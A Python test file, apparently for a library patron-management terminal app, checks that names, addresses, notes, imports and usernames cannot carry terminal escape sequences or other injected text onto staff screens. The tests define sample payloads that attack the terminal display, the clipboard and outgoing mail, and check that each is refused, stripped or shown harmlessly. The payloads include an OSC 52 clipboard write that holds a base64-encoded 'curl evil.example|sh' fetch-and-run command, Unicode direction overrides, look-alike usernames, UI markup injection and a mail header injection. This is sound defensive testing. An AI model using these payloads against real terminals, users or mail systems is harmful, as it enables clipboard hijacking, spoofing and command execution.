"""Issue 18, item 5: no control character reaches the terminal.

Found: `clean_text` refused only NUL. A last name imported as ESC ] 0;pwned BEL retitled the
staff terminal when Find Users listed it, ESC [2J cleared it, and a patron put the same into
an address in My account, which ran on the staff screen that opened the record (OSC 52 writes
the clipboard). Each test below performs the attack as it was found: through the service the
screen calls, an import file, or the app under the pilot reading an old database that already
holds such text; and fails if the text is stored, or drawn, as it was sent.
"""

from __future__ import annotations

import re

import pytest
from textual.app import App

from models.audit import Actor
from models.config.config_settings import check_settings
from models.config.configuration import add_entry
from models.enums import Source
from models.errors import ValidationError
from models.fees.fees import add_fee
from models.mail.letters import queue_general_message
from models.store.tables import Account, Address, Letter, Note, NoteType, Person
from models.text import printable, unsafe_problem, username_skeleton
from models.transfer.imports import ImportOptions, import_file
from models.users.accounts import NewUser, create_user
from models.users.details import update_user
from models.users.my_account import add_my_contact
from models.users.rows import Kind, add_row
from screens.my_account import MyAccountScreen
from screens.user_details import UserDetailsScreen
from tests.helpers.db import ADMIN_PASSWORD
from tests.helpers.details import admin
from tests.helpers.ui import SIZE, add_user, log_in, settle
from tui.app import PatronDeskApp

OSC_TITLE = "\x1b]0;pwned\x07"  # retitles the terminal
CLEAR = "\x1b[2J"  # clears it
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: writes the clipboard
HOSTILE = {
    "OSC title": f"Mallory{OSC_TITLE}",
    "CSI clear": f"Mallory{CLEAR}",
    "OSC 52 clipboard": f"Main street {CLIPBOARD}",
    "BEL": "Mallory\x07",
    "C1 CSI": "Mallory\x9b2J",
    "DEL": "Mallory\x7f",
    "line break": "Mallory\nDupont",
    "right-to-left override": "Mallory\u202eyrollaM",
    "isolate": "Mallory\u2066x\u2069",
    "left-to-right mark": "Mallory\u200e",
    "Arabic letter mark": "Mallory\u061c",
    "zero-width space": "Mal\u200blory",
    "word joiner": "Mal\u2060lory",
    "BOM": "\ufeffMallory",
    "zero-width joiner next to ASCII": "Mal\u200dlory",
    "soft hyphen": "Mal\u00adlory",
    "tag character": "Mallory\U000e0041",
}
PASSWORD = "Patron-Pass-2026"
# What Textual itself writes: colours (SGR), cursor moves and modes. Anything else starting
# with ESC, and any BEL, came from the data.
OWN_SEQUENCE = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")


def drawn(app: PatronDeskApp) -> str:
    """Exactly what the driver would write to the terminal for the whole screen now."""
    return app.screen._compositor.render_update(full=True).render_segments(app.console)


def assert_harmless(out: str) -> None:
    rest = OWN_SEQUENCE.sub("", out)
    leaks = [
        rest[max(0, m.start() - 20) : m.start() + 20] for m in re.finditer("[\x1b\x07\x9b]", rest)
    ]
    assert not leaks, f"control characters of the data reach the terminal: {leaks!r}"
    assert "[2J" not in rest.replace("␛[2J", ""), "a screen clear reaches the terminal"
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2060\ufeff]", rest)


def staff(db) -> Actor:  # noqa: ANN001
    return admin(db)


# --- Every typed text field refuses them (the first wall) -------------------------------------


@pytest.mark.parametrize("payload", list(HOSTILE.values()), ids=list(HOSTILE))
def test_quick_user_refuses_hostile_characters_in_every_text_field(db, payload: str) -> None:
    for field in ("last_name", "first_name", "job_description", "address_line1", "city"):
        data = NewUser(
            last_name="Mallory",
            primary_id="P666",
            user_group="PUBLIC",
            email="eve@example.org",
            expiry_date="2099-01-01",
            country="CH",
        )
        setattr(data, field, payload)
        with pytest.raises(ValidationError) as err:
            create_user(data, staff(db), db.organization)
        assert field in err.value.errors, field
        message = err.value.errors[field]
        assert re.search("control characters|text-direction|invisible|one line", message), message
    assert not Person.select().where(Person.last_name.contains("Mallory")).exists()


def test_the_general_tab_refuses_an_escape_sequence_in_a_name(db) -> None:
    eve = add_user("Eve", "Mallory", "P666")
    for payload in (f"Mallory{OSC_TITLE}", f"Mallory{CLEAR}", "Mallory\u202e"):
        with pytest.raises(ValidationError) as err:
            update_user(eve.id, eve.version, {"last_name": payload}, staff(db))
        assert "last_name" in err.value.errors
    assert Person.get_by_id(eve.person_id).last_name == "Mallory"


def test_a_patron_cannot_put_an_escape_sequence_into_their_address_in_my_account(db) -> None:
    eve = add_user("Eve", "Mallory", "P666", email="eve@example.org", password=PASSWORD)
    me = Actor(Account.get_by_id(eve.id), Source.SCREEN)
    for field in ("line1", "line2", "city", "postal_code", "note"):
        data = {"address_type": "home", "line1": "Main street 1", "city": "Geneva"}
        data[field] = f"1 {CLIPBOARD}{CLEAR}"
        with pytest.raises(ValidationError) as err:
            add_my_contact("address", Account.get_by_id(eve.id).version, data, me)
        assert field in err.value.errors
        assert "control characters" in err.value.errors[field]
    with pytest.raises(ValidationError) as err:
        add_my_contact("email", Account.get_by_id(eve.id).version,
                       {"address": "eve\u202e@example.org", "email_type": "work",
                        "description": f"work {OSC_TITLE}"}, me)  # fmt: skip
    assert {"address", "description"} <= set(err.value.errors)
    assert not Address.select().exists()


@pytest.mark.parametrize(
    ("kind", "field", "data"),
    [
        (Kind.NOTE, "text", {"note_type": "GENERAL"}),
        (Kind.BLOCK, "note", {"definition": "LOST_CARD"}),
        (Kind.STATISTIC, "note", {"category": "UNDERGRAD"}),
        (Kind.IDENTIFIER, "value", {"id_type": "BARCODE"}),
        (Kind.IDENTIFIER, "note", {"id_type": "BARCODE", "value": "BC-1"}),
    ],
)
def test_rows_of_user_details_refuse_hostile_characters(db, kind, field, data) -> None:
    eve = add_user("Eve", "Mallory", "P666")
    for payload in (f"x{OSC_TITLE}", "x\u202ey", "x\u200by"):
        with pytest.raises(ValidationError) as err:
            add_row(kind, eve.id, Account.get_by_id(eve.id).version, {**data, field: payload},
                    staff(db))  # fmt: skip
        assert field in err.value.errors, (kind, field, err.value.errors)


def test_code_tables_fees_letters_and_settings_refuse_hostile_characters(db) -> None:
    org = db.organization.id
    with pytest.raises(ValidationError) as err:
        add_entry("note_types", org, {"code": "EVIL", "name": f"Evil{OSC_TITLE}"}, staff(db))
    assert "name" in err.value.errors
    with pytest.raises(ValidationError) as err:
        add_entry("note_types", org, {"code": "EV\u202eIL", "name": "Evil"}, staff(db))
    assert "code" in err.value.errors
    eve = add_user("Eve", "Mallory", "P666")
    with pytest.raises(ValidationError) as err:
        add_fee(eve.id, staff(db), fee_type="CREDIT", amount="1.00", comment=f"ok{CLEAR}")
    assert "comment" in err.value.errors
    with pytest.raises(ValidationError) as err:
        # A line break in a subject would also write a mail header (Bcc: ...).
        queue_general_message(eve.id, "Hello\r\nBcc: all@example.org", f"Hi{CLIPBOARD}", staff(db))
    assert {"subject", "message"} <= set(err.value.errors)
    assert not Letter.select().exists()
    with pytest.raises(ValidationError) as err:
        check_settings({"smtp_user": f"mail{OSC_TITLE}"})
    assert "smtp_user" in err.value.errors


def test_what_a_language_needs_is_still_accepted(db) -> None:
    """A letter's message keeps its lines; Persian keeps its zero-width non-joiner between
    letters, an emoji sequence its joiner; names in any script stay as typed."""
    eve = add_user("Eve", "Mallory", "P666")
    letter = queue_general_message(eve.id, "News", "Dear Eve,\n\n\tWe open on Sundays.", staff(db))
    assert "\n\n\tWe open" in Letter.get_by_id(letter.id).body
    persian = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"  # ZWNJ inside the word
    names = {"first_name": persian, "last_name": "Ørsted-Müller"}
    saved = update_user(eve.id, Account.get_by_id(eve.id).version, names, staff(db))
    assert saved.person.first_name == persian
    assert unsafe_problem("\U0001f469\u200d\U0001f4bb") is None  # woman technologist


# --- Imports strip them with a warning --------------------------------------------------------


def test_an_import_stores_no_hostile_character_and_says_what_it_removed(db, tmp_path) -> None:
    path = tmp_path / "users.csv"
    path.write_text(
        "primary_id,first_name,last_name,address_line1,city,notes\n"
        f'P666,Eve,"Mallory{OSC_TITLE}","Main street{CLIPBOARD}",Gen\u202eeva,'
        f'"GENERAL:call{CLEAR} back"\n'
        "P667,Ann,Smith,Lake road 2,Bern,\n",
        encoding="utf-8",
    )
    report = import_file(path, ImportOptions(workers=1), organization=db.organization)
    assert not report.refusals
    person = Account.get(Account.primary_id == "P666").person
    stored = [
        person.last_name,
        *(v for a in Address.select().where(Address.person == person) for v in (a.line1, a.city)),
        *(n.text for n in Note.select()),
    ]
    assert stored == ["Mallory]0;pwned", "Main street]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=",
                      "Geneva", "call[2J back"]  # fmt: skip
    assert all(unsafe_problem(v) is None for v in stored)
    warned = {(i.primary_id, i.field) for i in report.issues if i.level == "warning"}
    assert {("P666", "last_name"), ("P666", "addresses line1"), ("P666", "addresses city"),
            ("P666", "notes text")} <= warned  # fmt: skip
    assert not any(i.primary_id == "P667" for i in report.issues if i.level == "warning")


# --- Usernames: NFKC, and no look-alike of an existing one -------------------------------------


def new_user(username: str, primary_id: str) -> NewUser:
    return NewUser(first_name="Eve", last_name="Mallory", primary_id=primary_id, username=username,
                   user_group="PUBLIC", email=f"{primary_id}@example.org",
                   expiry_date="2099-01-01")  # fmt: skip


def test_usernames_are_nfkc_normalized(db) -> None:
    account = create_user(new_user("ｊｄｏｅ", "P700"), staff(db), db.organization)
    assert account.person.username == "jdoe"
    with pytest.raises(ValidationError) as err:
        create_user(new_user("JDOE", "P701"), staff(db), db.organization)
    assert "already used" in err.value.errors["username"]


@pytest.mark.parametrize(
    "look_alike",
    [
        "\u0430dmin",  # Cyrillic a
        "adm\u0456n",  # Cyrillic i
        "\u0410DMIN",  # Cyrillic A, upper case
        "\u0251dmin",  # Latin alpha
        "adrnin",  # r n for m
        "ad\u217fin",  # small roman numeral one thousand (NFKC: m)
        "\U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427",  # mathematical bold
    ],
)
def test_a_look_alike_of_an_existing_username_is_refused(db, look_alike: str) -> None:
    """`admin` exists (the first administrator): a desk operator cannot make a second one
    that staff would take for it in a list or a letter."""
    with pytest.raises(ValidationError) as err:
        create_user(new_user(look_alike, "P800"), staff(db), db.organization)
    assert re.search("looks too much like|already used", err.value.errors["username"])
    eve = add_user("Eve", "Mallory", "P666")
    with pytest.raises(ValidationError) as err:
        update_user(eve.id, eve.version, {"username": look_alike}, staff(db))
    assert re.search("looks too much like|already used", err.value.errors["username"])
    assert (
        Person.select().where(Person.username_skeleton == username_skeleton("admin")).count() == 1
    )


def test_usernames_refuse_invisible_characters_and_unlike_ones_are_accepted(db) -> None:
    for bad in ("ad\u200dmin", "ad\u200cmin", "admin\ufe0f", "ad\u00admin"):
        with pytest.raises(ValidationError) as err:
            create_user(new_user(bad, "P900"), staff(db), db.organization)
        assert "invisible" in err.value.errors["username"]
    for i, fine in enumerate(("adminbot", "amin", "\u0430\u043d\u043d\u0430", "m\u00fcller")):
        create_user(new_user(fine, f"P91{i}"), staff(db), db.organization)


def test_an_import_refuses_a_look_alike_username(db, tmp_path) -> None:
    path = tmp_path / "users.csv"
    path.write_text(
        "primary_id,last_name,username\nP666,Mallory,\u0430dmin\nP667,Smith,asmith\n",
        encoding="utf-8",
    )
    report = import_file(path, ImportOptions(workers=1), organization=db.organization)
    refused = {(i.primary_id, i.field): i.message for i in report.refusals}
    assert "looks too much like" in refused[("P666", "username")]
    assert not Account.select().where(Account.primary_id == "P666").exists()
    assert Account.get(Account.primary_id == "P667").person.username == "asmith"


# --- The second wall: what an old database holds is drawn harmless ----------------------------


def plant(account: Account) -> None:
    """As an older PatronDesk or another program stored it: straight into the tables."""
    Person.update(
        last_name=f"{OSC_TITLE}Mallory{CLEAR}",
        first_name="[@click=app.quit]Eve[/]",
        title="[ @click=app.quit]Dr",
    ).where(Person.id == account.person_id).execute()
    line1, city = f"Main street {CLIPBOARD}", "Gen\u202eeva"
    Address.create(person=account.person_id, address_type="home", line1=line1, city=city,
                   preferred=True)  # fmt: skip
    Note.create(account=account.id, note_type=NoteType.select().first(),
                text=f"call back{OSC_TITLE}", user_viewable=True)  # fmt: skip


def test_printable_shows_every_hostile_character_as_a_visible_mark() -> None:
    assert printable(f"{OSC_TITLE}x{CLEAR}") == "␛]0;pwned␇x␛[2J"
    for payload in HOSTILE.values():
        shown = printable(payload)
        assert unsafe_problem(shown) is None, repr(shown)
        assert len(shown) == len(payload)  # one mark per character: input cursors still fit
    assert printable("Dear Eve,\n\tHello", multiline=True) == "Dear Eve,\n\tHello"


async def test_find_users_and_user_details_draw_an_old_hostile_record_harmlessly(
    ui_db, monkeypatch
) -> None:
    eve = add_user("Eve", "Mallory", "P666")
    plant(eve)
    app = PatronDeskApp()
    async with app.run_test(size=SIZE) as pilot:
        await log_in(pilot, "admin", ADMIN_PASSWORD)
        out = drawn(app)
        assert "␛]0;pwned␇Mallory␛[2J" in out, "Find Users lists the record, escaped"
        assert_harmless(out)
        app.push_screen(UserDetailsScreen(eve.id))
        await settle(pilot)
        for key in ("f2", "f3", "f5", "f12"):  # General, Contact, Notes, History
            await pilot.press(key)
            await settle(pilot)
            out = drawn(app)
            assert_harmless(out)
        await pilot.press("f2")
        await settle(pilot)
        out = drawn(app)
        assert "[@click=app.quit]Eve[/]" in out, "a name is shown as it is, not read as markup"
        assert "[ @click=app.quit]Dr" in out
        # A notification quoting the name, as after a status change, reaches Textual plain.
        sent: list[tuple[str, dict]] = []
        monkeypatch.setattr(App, "notify", lambda _app, message, **kw: sent.append((message, kw)))
        app.notify(f"{OSC_TITLE}[@click=app.quit]Mallory[/] saved", title=f"Eve{CLEAR}")
        [(message, kw)] = sent
        assert message == "␛]0;pwned␇[@click=app.quit]Mallory[/] saved"
        assert kw["title"] == "Eve␛[2J" and kw["markup"] is False


async def test_my_account_draws_what_a_patron_stored_before_harmlessly(ui_db) -> None:
    eve = add_user("Eve", "Mallory", "P666", email="eve@example.org", password=PASSWORD)
    plant(eve)
    app = PatronDeskApp()
    async with app.run_test(size=SIZE) as pilot:
        await log_in(pilot, "P666", PASSWORD)
        assert isinstance(app.screen, MyAccountScreen)
        seen = ""
        for key in ("f2", "f3", "f4"):  # My record (notes), Contact, Fees
            await pilot.press(key)
            await settle(pilot)
            out = drawn(app)
            assert_harmless(out)
            seen += out
        assert "call back␛]0;pwned␇" in seen
        assert "Main street ␛]52;c;" in seen
